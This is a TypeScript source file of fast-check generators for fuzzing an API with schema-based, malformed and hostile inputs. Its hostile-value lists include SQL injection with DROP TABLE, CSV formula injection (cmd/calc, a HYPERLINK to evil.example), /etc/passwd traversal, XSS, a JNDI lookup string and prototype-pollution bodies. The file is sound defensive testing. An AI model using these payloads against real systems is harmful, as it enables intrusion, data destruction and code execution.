import { randomUUID } from 'node:crypto';
import fc from 'fast-check';

/**
 * fast-check arbitraries for the fuzzer: values shaped by the OpenAPI schemas (so requests reach the
 * handlers), and hostile values to put anywhere (so they reach the corners).
 */

export type JsonSchema = {
  type?: string | string[];
  enum?: unknown[];
  const?: unknown;
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  items?: JsonSchema;
  maxItems?: number;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
};

/** Ids the fixtures created, by the name of the parameter or field that carries them. */
export type IdPools = Record<string, string[]>;

// ---- hostile values -------------------------------------------------------------------------

const SQL = [
  "' OR '1'='1",
  "'; DROP TABLE posts; --",
  '" OR ""="',
  "1; SELECT pg_sleep(0); --",
  "' UNION SELECT password_hash FROM users --",
  "%' AND 1=0 UNION SELECT sqlite_version() --",
  'Robert\'); DELETE FROM plans;--',
];
const CSV_FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', '+SUM(1,2)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1'];
const PATHS = ['../../etc/passwd', '..%2f..%2f', '/', '\\', '%00', '.', '..', '~', '*', '?', '#'];
const PROTO = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__'];
const MARKUP = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '${jndi:ldap://x/a}', '{{7*7}}', '%s%s%s%n'];
const UNICODE = [
  '\u0000',
  'a\u0000b',
  '\u202etxt.exe',
  '\u200b\u200c\u200d\ufeff',
  '😀👩‍👩‍👧‍👦🏳️‍🌈',
  'Ǆǅǆ ß ẞ İ ı',
  '\ud800',
  '\udfff\ud800',
  'ﷺ‮',
  'e\u0301\u0301\u0301\u0301',
  '\u0085\u2028\u2029',
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...SQL, ...CSV_FORMULAS, ...PATHS, ...PROTO, ...MARKUP, ...UNICODE) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.constantFrom('', ' ', '   \t\n', 'null', 'undefined', 'NaN', 'true', '-1', '0x10', '1e999', '9'.repeat(400)) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('a', 'é', '😀', "'", '=', '\u0000'), fc.constantFrom(201, 256, 1025, 5001, 70_000, 300_000))
      .map(([c, n]) => c.repeat(n)),
  },
  { weight: 1, arbitrary: fc.constantFrom(randomUUID(), randomUUID().toUpperCase(), '00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff') },
  { weight: 1, arbitrary: fc.constantFrom('2026-02-30', '2026-13-01', '0000-00-00', '0000-01-01', '9999-12-31', '9000-12-31', '1970-01-01', '1969-12-31', '2026-03-02T25:00:00Z', '+275760-09-13T00:00:00.000Z', '2026-03-02') },
);

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -0, -1, 1, 0.5, -0.5, 1e308, -1e308, 5e-324, 2 ** 31, 2 ** 32, 2 ** 53, 2 ** 53 + 2, -(2 ** 63), Number.MAX_VALUE, 10, 11, 52, 53),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

const leaf: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 3, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
);

/** Any JSON value, with hostile leaves and hostile keys (own __proto__/constructor keys included). */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof({ depthSize: 'small', withCrossShrink: true }, leaf, tie('array'), tie('object')),
  array: fc.array(tie('value'), { maxLength: 4 }),
  object: fc
    .array(fc.tuple(fc.oneof(fc.constantFrom(...PROTO, 'isAdmin', 'version', 'planId', 'id'), fc.string({ maxLength: 8 })), tie('value')), {
      maxLength: 4,
    })
    .map((entries) => ownObject(entries)),
})).value;

/** An object with these own properties, even "__proto__" (as JSON.parse would make it). */
export function ownObject(entries: Array<[string, unknown]>): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const [k, v] of entries) Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true });
  return out;
}

// ---- values shaped by a schema --------------------------------------------------------------

const DATE_RE = '^\\d{4}-\\d{2}-\\d{2}$';

export const realDate = fc
  .date({ min: new Date('2025-06-01T00:00:00Z'), max: new Date('2027-06-30T00:00:00Z'), noInvalidDate: true })
  .map((d) => d.toISOString().slice(0, 10));
const monday = fc.integer({ min: -60, max: 60 }).map((w) => new Date(Date.UTC(2026, 0, 5) + w * 7 * 86_400_000).toISOString().slice(0, 10));
const dateLike = fc.oneof({ weight: 6, arbitrary: realDate }, { weight: 2, arbitrary: monday }, { weight: 1, arbitrary: hostileString });
const instant = fc.oneof(
  { weight: 5, arbitrary: fc.date({ min: new Date('2025-10-01T00:00:00Z'), max: new Date('2026-09-30T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString()) },
  { weight: 1, arbitrary: fc.constantFrom('2026-03-02T10:00:00+14:00', '2026-03-02T10:00:00-12:00', '2026-03-02T10:00:00.123456789Z', '2026-03-02T10:00Z', '2026-03-02 10:00:00Z') },
  { weight: 1, arbitrary: hostileString },
);

function idFor(name: string, pools: IdPools): fc.Arbitrary<string> {
  const key = name.replace(/s$/, '').replace(/^dependsOn$/, 'milestoneId').replace(/^lead$/, 'userId').replace(/^attendee$/, 'personId');
  const pool = pools[key] ?? pools[`${key}Id`] ?? [];
  return fc.oneof(
    { weight: pool.length ? 6 : 0, arbitrary: pool.length ? fc.constantFrom(...pool) : fc.constant(randomUUID()) },
    { weight: 1, arbitrary: fc.uuid() },
    { weight: 1, arbitrary: fc.constantFrom(...(pools.any ?? [randomUUID()])) },
  );
}

function stringFor(s: JsonSchema, name: string, pools: IdPools): fc.Arbitrary<string> {
  if (s.format === 'uuid' || /Id$/.test(name) || name === 'dependsOn' || name === 'leads') return idFor(name, pools);
  if (s.pattern === DATE_RE || /Date$|^weekStart$|^asOf$|^from$|^to$/.test(name)) return dateLike;
  if (s.format === 'date-time' || /At$/.test(name)) return instant;
  if (s.format === 'email' || name === 'email') {
    return fc.oneof(fc.emailAddress(), fc.constantFrom(...(pools.email ?? ['nobody@example.com'])), hostileString);
  }
  if (s.pattern === '^\\d{1,15}$') return fc.oneof(fc.nat({ max: 300 }).map(String), fc.constantFrom('0', '999999999999999', '1000000000000000'));
  const min = s.minLength ?? 0;
  const max = Math.max(min, Math.min(s.maxLength ?? 40, 40));
  return fc.oneof(
    { weight: 6, arbitrary: fc.string({ minLength: Math.max(min, 1), maxLength: max, unit: 'grapheme-ascii' }) },
    { weight: 1, arbitrary: fc.string({ minLength: min, maxLength: max, unit: 'grapheme' }) },
    { weight: 1, arbitrary: hostileString },
  );
}

/** A value that mostly satisfies the schema; the mutations below make it hostile. */
export function fromSchema(s: JsonSchema, name: string, pools: IdPools): fc.Arbitrary<unknown> {
  const alternatives = s.anyOf ?? s.oneOf;
  if (alternatives) return fc.oneof(...alternatives.map((a) => fromSchema(a, name, pools)));
  if (s.enum) return fc.constantFrom(...s.enum);
  if (s.const !== undefined) return fc.constant(s.const);
  const types = Array.isArray(s.type) ? s.type : s.type ? [s.type] : [];
  if (types.length > 1) {
    return fc.oneof(...types.map((type) => ({ weight: type === 'null' ? 1 : 4, arbitrary: fromSchema({ ...s, type }, name, pools) })));
  }
  switch (types[0]) {
    case 'null':
      return fc.constant(null);
    case 'boolean':
      return fc.boolean();
    case 'integer': {
      const min = s.minimum ?? (s.exclusiveMinimum !== undefined ? s.exclusiveMinimum + 1 : -5);
      const max = s.maximum ?? (s.exclusiveMaximum !== undefined ? s.exclusiveMaximum - 1 : Math.max(min, 0) + 1000);
      return fc.oneof({ weight: 6, arbitrary: fc.integer({ min, max }) }, { weight: 1, arbitrary: fc.constantFrom(min - 1, max + 1) });
    }
    case 'number': {
      const min = s.minimum ?? -1000;
      const max = s.maximum ?? 1000;
      return fc.oneof(
        { weight: 6, arbitrary: fc.double({ min, max, noNaN: true, noDefaultInfinity: true }) },
        { weight: 1, arbitrary: fc.constantFrom(min - 0.001, max + 0.001) },
      );
    }
    case 'string':
      return stringFor(s, name, pools);
    case 'array': {
      const maxLength = Math.min(s.maxItems ?? 4, 4);
      return fc.array(fromSchema(s.items ?? {}, name, pools), { maxLength });
    }
    case 'object': {
      const props = Object.entries(s.properties ?? {});
      if (!props.length) return fc.constant({});
      const record = Object.fromEntries(props.map(([k, v]) => [k, fromSchema(v, k, pools)]));
      return fc.record(record, { requiredKeys: (s.required ?? []).filter((k) => k in record) });
    }
    default:
      return hostileValue;
  }
}

/** The valid-looking value, or one with one field made hostile, a field too many, or one missing. */
export function mutated(valid: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  const asObject = (v: unknown) => (v && typeof v === 'object' && !Array.isArray(v) ? (v as Record<string, unknown>) : null);
  return fc.oneof(
    { weight: 5, arbitrary: valid },
    {
      weight: 4,
      arbitrary: fc.tuple(valid, fc.nat(), hostileValue).map(([v, i, h]) => {
        const o = asObject(v);
        if (!o || !Object.keys(o).length) return h;
        const keys = Object.keys(o);
        return ownObject(Object.entries(o).map(([k, val]) => [k, k === keys[i % keys.length] ? h : val]));
      }),
    },
    {
      weight: 2,
      arbitrary: fc
        .tuple(valid, fc.oneof(fc.constantFrom(...PROTO, 'id', 'version', 'planId', 'isAdmin', 'createdAt', 'source'), fc.string({ maxLength: 10 })), hostileValue)
        .map(([v, k, h]) => ownObject([...Object.entries(asObject(v) ?? {}), [k, h]])),
    },
    {
      weight: 1,
      arbitrary: fc.tuple(valid, fc.nat()).map(([v, i]) => {
        const entries = Object.entries(asObject(v) ?? {});
        return ownObject(entries.filter((_e, j) => j !== i % Math.max(1, entries.length)));
      }),
    },
    { weight: 1, arbitrary: hostileValue },
  );
}

// ---- raw bodies -------------------------------------------------------------------------------

const INVALID_UTF8 = [
  [0xff],
  [0xfe, 0xff],
  [0xc0, 0xaf],
  [0xe0, 0x80, 0xaf],
  [0x80],
  [0xe2, 0x82],
  [0xed, 0xa0, 0x80],
  [0xf4, 0x90, 0x80, 0x80],
  [0xef, 0xbb, 0xbf],
  [0x00],
];
export const badBytes = fc.constantFrom(...INVALID_UTF8).map((b) => Buffer.from(b));

/** Bytes that are not JSON, or JSON that JSON.parse handles in surprising ways. */
export const rawJsonBody: fc.Arbitrary<Buffer> = fc.oneof(
  fc.constantFrom(
    '',
    '{',
    '}',
    '[',
    'null',
    'true',
    '0',
    '"string"',
    '[]',
    '{"a":1,"a":2}',
    '{"weight": 1e400}',
    '{"weight": -1e400}',
    '{"weight": 1.0000000000000000000001}',
    '{"limit": 123456789012345678901234567890}',
    '{"__proto__": {"isAdmin": true, "polluted": "yes"}}',
    '{"constructor": {"prototype": {"polluted": "yes"}}}',
    '{"title": "a\\u0000b"}',
    '{"title": "\\ud800"}',
    "{'single': 'quotes'}",
    '{"trailing": 1,}',
    '/* comment */ {}',
    '\ufeff{"title":"bom"}',
    'NaN',
    '{"x": undefined}',
  ).map((s) => Buffer.from(s)),
  fc.tuple(fc.constantFrom('[', '{"a":', '{"__proto__":'), fc.constantFrom(']', '}'), fc.constantFrom(100, 5000, 50_000, 150_000)).map(([open, close, n]) =>
    Buffer.from(open.repeat(n) + (open === '[' ? '' : '1') + close.repeat(n)),
  ),
  fc.tuple(fc.string({ maxLength: 20 }), badBytes, fc.string({ maxLength: 20 })).map(([a, bad, b]) =>
    Buffer.concat([Buffer.from(`{"title":"${a.replace(/["\\]/g, '')}`), bad, Buffer.from(`${b.replace(/["\\]/g, '')}","phase":"internal_network","dueDate":"2026-03-02"}`)]),
  ),
  fc.constantFrom(1_100_000, 2_000_000).map((n) => Buffer.from(`{"title":"${'x'.repeat(n)}"}`)),
  fc.uint8Array({ maxLength: 64 }).map((a) => Buffer.from(a)),
);

export const CSV_HEADER = 'channel,published_at,source,external_id,author';

const csvCell = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom('linkedin', 'x', 'Instagram ', '2026-03-02T10:00:00Z', '2026-03-02T10:00:00+01:00', 'agency', 'in_house', 'co_authored', '') },
  { weight: 2, arbitrary: fc.constantFrom(...CSV_FORMULAS, ...SQL) },
  { weight: 2, arbitrary: hostileString.map((s) => s.slice(0, 300)) },
  { weight: 1, arbitrary: fc.constantFrom('"quoted, with comma"', '"unbalanced', 'a"b', '""', '"multi\nline"', '"\r\n"') },
);
const csvRow = fc.oneof(
  { weight: 4, arbitrary: fc.tuple(fc.constantFrom('linkedin', 'x', 'LinkedIn'), instant, fc.constantFrom('agency', 'in_house', 'co_authored'), fc.option(fc.string({ maxLength: 12, unit: 'grapheme-ascii' })), fc.option(csvCell)).map(
    ([c, at, s, id, author]) => [c, at, s, (id ?? '').replace(/[",\r\n]/g, ''), author ?? ''].join(','),
  ) },
  { weight: 3, arbitrary: fc.array(csvCell, { minLength: 0, maxLength: 7 }).map((cells) => cells.join(',')) },
);

/** CSV uploads: mostly well-formed, with formula cells, broken quoting, wrong headers, bad bytes. */
export const csvBody: fc.Arbitrary<Buffer> = fc.oneof(
  { weight: 5, arbitrary: fc.tuple(fc.array(csvRow, { maxLength: 12 }), fc.constantFrom('\n', '\r\n', '\r')).map(([rows, eol]) => Buffer.from([CSV_HEADER, ...rows].join(eol) + eol)) },
  {
    weight: 2,
    arbitrary: fc.tuple(fc.constantFrom(CSV_HEADER, 'CHANNEL, Published_At ,source,external_id,author', 'channel,published_at,source', `${CSV_HEADER},extra`, '', '\ufeff' + CSV_HEADER, 'a;b;c'), fc.array(csvRow, { maxLength: 5 })).map(
      ([header, rows]) => Buffer.from([header, ...rows].join('\n')),
    ),
  },
  { weight: 2, arbitrary: fc.tuple(fc.array(csvRow, { maxLength: 4 }), badBytes, fc.array(csvRow, { maxLength: 4 })).map(([a, bad, b]) =>
    Buffer.concat([Buffer.from([CSV_HEADER, ...a].join('\n') + '\nlinkedin,2026-03-02T10:00:00Z,agency,'), bad, Buffer.from(',x\n' + b.join('\n'))]),
  ) },
  { weight: 1, arbitrary: fc.constantFrom(70_000, 200_000).map((n) => Buffer.from(`${CSV_HEADER}\nlinkedin,2026-03-02T10:00:00Z,agency,${'a'.repeat(n)},\n`)) },
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 64 }).map((a) => Buffer.from(a)) },
);

// ---- headers ----------------------------------------------------------------------------------

/** Header values: printable ASCII or obs-text bytes (what HTTP lets through), sometimes huge. */
export const headerValue: fc.Arbitrary<string> = fc
  .oneof(
  fc.string({ maxLength: 40, unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)) }),
  fc.string({ maxLength: 20, unit: fc.integer({ min: 0x80, max: 0xff }).map((c) => String.fromCharCode(c)) }),
  fc.constantFrom(...SQL, ...CSV_FORMULAS, '', ' ', '*', '"', 'W/', 'W/"1"', '"1", "2"', '"99999999999"', '"-1"', 'null', 'x'.repeat(7000)),
  )
  // Control characters (other than tab) cannot be sent in a header at all.
  // eslint-disable-next-line no-control-regex
  .map((v) => v.replace(/[\x00-\x08\x0a-\x1f\x7f]/g, ''));

export const contentType = fc.constantFrom(
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=latin1',
  'application/json; charset=utf-16',
  'application/merge-patch+json',
  'application/problem+json',
  'text/json',
  'text/plain',
  'text/csv',
  'text/csv; charset=utf-8',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=xyz',
  'application/xml',
  'application/octet-stream',
  '*/*',
  'application/',
  ';;;',
  'ä/ö',
);
